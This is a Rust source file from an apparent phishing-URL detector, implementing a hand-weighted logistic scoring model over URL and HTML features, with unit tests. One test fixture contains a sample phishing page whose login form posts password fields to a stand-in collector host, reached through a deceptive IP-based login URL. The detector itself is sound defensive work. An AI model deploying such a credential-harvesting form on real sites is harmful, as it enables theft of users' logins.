//! ML-Style Heuristic Scoring
//!
//! A hand-weighted logistic model over a fixed feature vector. The weights are
//! not trained here; they encode the same intuitions as the lexical and
//! behavioral layers but combine them non-linearly.

use scraper::{Html, Selector};
use std::time::Instant;

use super::{keyword_hits, shannon_entropy, Analyzer};
use crate::error::AnalyzerError;
use crate::{AnalyzerKind, AnalyzerResult, Artifact, Classification};

/// Feature order shared by [`FeatureVector`] and the weight table
pub const FEATURE_NAMES: [&str; FEATURE_DIM] = [
    "url_length",
    "digit_ratio",
    "entropy",
    "special_char_ratio",
    "subdomain_depth",
    "ip_host",
    "keyword_hits",
    "https",
    "form_count",
    "password_fields",
    "iframe_count",
    "script_count",
    "external_link_ratio",
];

/// Length of the feature vector
pub const FEATURE_DIM: usize = 13;

const WEIGHTS: [f64; FEATURE_DIM] = [1.5, 3.0, 1.0, 4.0, 1.5, 2.5, 2.5, -0.5, 0.5, 2.0, 1.0, 0.3, 1.0];
const BIAS: f64 = -4.0;

/// Normalized features, each in [0, 1]
#[derive(Debug, Clone, PartialEq)]
pub struct FeatureVector {
    data: [f64; FEATURE_DIM],
}

impl FeatureVector {
    /// Extract features from the URL and, when present, the HTML document
    pub fn extract(url: &url::Url, raw: &str, host: &str, html: Option<&str>) -> Self {
        let mut data = [0.0; FEATURE_DIM];
        let len = raw.chars().count().max(1) as f64;

        data[0] = (len / 200.0).min(1.0);
        data[1] = raw.chars().filter(|c| c.is_ascii_digit()).count() as f64 / len;
        data[2] = (shannon_entropy(raw) / 5.0).min(1.0);
        data[3] = raw.chars().filter(|c| "-_@~%=&!$".contains(*c)).count() as f64 / len;

        let is_ip = host.parse::<std::net::IpAddr>().is_ok();
        let labels = host.split('.').filter(|l| !l.is_empty()).count();
        data[4] = if is_ip { 0.0 } else { (labels.saturating_sub(2) as f64 / 5.0).min(1.0) };
        data[5] = if is_ip { 1.0 } else { 0.0 };

        let path = format!("{}?{}", url.path(), url.query().unwrap_or(""));
        data[6] = (keyword_hits(&path).len() as f64 / 4.0).min(1.0);
        data[7] = if url.scheme() == "https" { 1.0 } else { 0.0 };

        if let Some(html) = html {
            let page = PageCounts::from_html(html, host);
            data[8] = (page.forms as f64 / 5.0).min(1.0);
            data[9] = (page.password_fields as f64 / 3.0).min(1.0);
            data[10] = (page.iframes as f64 / 5.0).min(1.0);
            data[11] = (page.scripts as f64 / 20.0).min(1.0);
            data[12] = if page.links == 0 {
                0.0
            } else {
                page.external_links as f64 / page.links as f64
            };
        }

        Self { data }
    }

    /// Feature at `index`, 0 when out of range
    pub fn get(&self, index: usize) -> f64 {
        self.data.get(index).copied().unwrap_or(0.0)
    }

    /// Raw features
    pub fn as_slice(&self) -> &[f64] {
        &self.data
    }

    /// Dot product with a weight table
    pub fn dot(&self, weights: &[f64; FEATURE_DIM]) -> f64 {
        self.data.iter().zip(weights.iter()).map(|(x, w)| x * w).sum()
    }

    fn to_json(&self) -> serde_json::Value {
        FEATURE_NAMES
            .iter()
            .zip(self.data.iter())
            .map(|(name, value)| (name.to_string(), serde_json::json!(value)))
            .collect::<serde_json::Map<_, _>>()
            .into()
    }
}

#[derive(Debug, Default)]
struct PageCounts {
    forms: usize,
    password_fields: usize,
    iframes: usize,
    scripts: usize,
    links: usize,
    external_links: usize,
}

impl PageCounts {
    fn from_html(html: &str, host: &str) -> Self {
        let doc = Html::parse_document(html);
        let count = |css: &str| Selector::parse(css).map(|s| doc.select(&s).count()).unwrap_or(0);

        let mut counts = Self {
            forms: count("form"),
            password_fields: count("input[type=password]"),
            iframes: count("iframe"),
            scripts: count("script"),
            ..Self::default()
        };

        if let Ok(anchors) = Selector::parse("a[href]") {
            for href in doc.select(&anchors).filter_map(|a| a.value().attr("href")) {
                counts.links += 1;
                let external = url::Url::parse(href)
                    .ok()
                    .and_then(|u| u.host_str().map(|h| !h.eq_ignore_ascii_case(host)))
                    .unwrap_or(false);
                if external {
                    counts.external_links += 1;
                }
            }
        }
        counts
    }
}

/// Logistic squashing
fn sigmoid(z: f64) -> f64 {
    1.0 / (1.0 + (-z).exp())
}

/// Heuristic model layer
#[derive(Debug, Default)]
pub struct MlHeuristicAnalyzer;

impl MlHeuristicAnalyzer {
    /// Stateless model
    pub fn new() -> Self {
        Self
    }

    /// Probability that the artifact is malicious
    pub fn predict(features: &FeatureVector) -> f64 {
        sigmoid(features.dot(&WEIGHTS) + BIAS)
    }

    /// Probability bands: ≥ 0.7 malicious, ≥ 0.4 suspicious
    pub fn classify(probability: f64) -> Classification {
        if probability >= 0.7 {
            Classification::Malicious
        } else if probability >= 0.4 {
            Classification::Suspicious
        } else {
            Classification::Benign
        }
    }
}

#[async_trait::async_trait]
impl Analyzer for MlHeuristicAnalyzer {
    fn kind(&self) -> AnalyzerKind {
        AnalyzerKind::MlHeuristic
    }

    async fn analyze(&self, artifact: &Artifact) -> AnalyzerResult {
        let start = Instant::now();
        let (url, host) = match (artifact.validate(), artifact.host()) {
            (Ok(url), Some(host)) => (url, host),
            _ => return AnalyzerResult::fault(self.kind(), AnalyzerError::Parse("URL cannot be featurized".into())),
        };

        let features = FeatureVector::extract(&url, artifact.url.trim(), &host, artifact.html());
        let probability = Self::predict(&features);
        let prediction = Self::classify(probability);

        let mut findings = Vec::new();
        if prediction != Classification::Benign {
            findings.push(format!("model predicts {prediction} (p = {probability:.2})"));
        }

        AnalyzerResult::completed(self.kind(), probability * 100.0, findings)
            .with_prediction(prediction)
            .with_extra(serde_json::json!({
                "probability": probability,
                "prediction": prediction,
                "features": features.to_json(),
            }))
            .with_duration(start.elapsed())
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::ContentBundle;

    #[tokio::test]
    async fn test_clean_url_is_benign() {
        let result = MlHeuristicAnalyzer::new().analyze(&Artifact::new("https://example.com/")).await;
        assert_eq!(result.prediction, Some(Classification::Benign));
        assert!(result.score < 10.0, "score {}", result.score);
    }

    #[tokio::test]
    async fn test_phishing_page_scores_high() {
        let html = r#"<html><body>
            <form action="https://collect.evil.example/p"><input type="text" name="u">
              <input type="password" name="p"><input type="password" name="p2"></form>
            <iframe src="https://x.example"></iframe>
            <a href="https://a.example">a</a><a href="https://b.example">b</a>
        </body></html>"#;
        let artifact = Artifact::with_content(
            "http://198.51.100.23/secure-login/verify_account/update?id=88213&token=%41%42",
            ContentBundle::html(html),
        );
        let result = MlHeuristicAnalyzer::new().analyze(&artifact).await;

        assert_eq!(result.prediction, Some(Classification::Malicious));
        assert!(result.score >= 70.0, "score {}", result.score);
        assert_eq!(result.extra["features"]["ip_host"], 1.0);
    }

    #[test]
    fn test_classification_thresholds() {
        assert_eq!(MlHeuristicAnalyzer::classify(0.7), Classification::Malicious);
        assert_eq!(MlHeuristicAnalyzer::classify(0.69), Classification::Suspicious);
        assert_eq!(MlHeuristicAnalyzer::classify(0.4), Classification::Suspicious);
        assert_eq!(MlHeuristicAnalyzer::classify(0.39), Classification::Benign);
    }

    #[test]
    fn test_feature_extraction() {
        let url = url::Url::parse("https://a.b.example.com/login").unwrap();
        let html = r#"<a href="/local">x</a><a href="https://other.example/">y</a><script></script>"#;
        let features = FeatureVector::extract(&url, url.as_str(), "a.b.example.com", Some(html));

        assert_eq!(features.get(4), 0.4);
        assert_eq!(features.get(5), 0.0);
        assert_eq!(features.get(6), 0.25);
        assert_eq!(features.get(7), 1.0);
        assert_eq!(features.get(11), 0.05);
        assert_eq!(features.get(12), 0.5);
        assert_eq!(features.as_slice().len(), FEATURE_NAMES.len());
    }
}
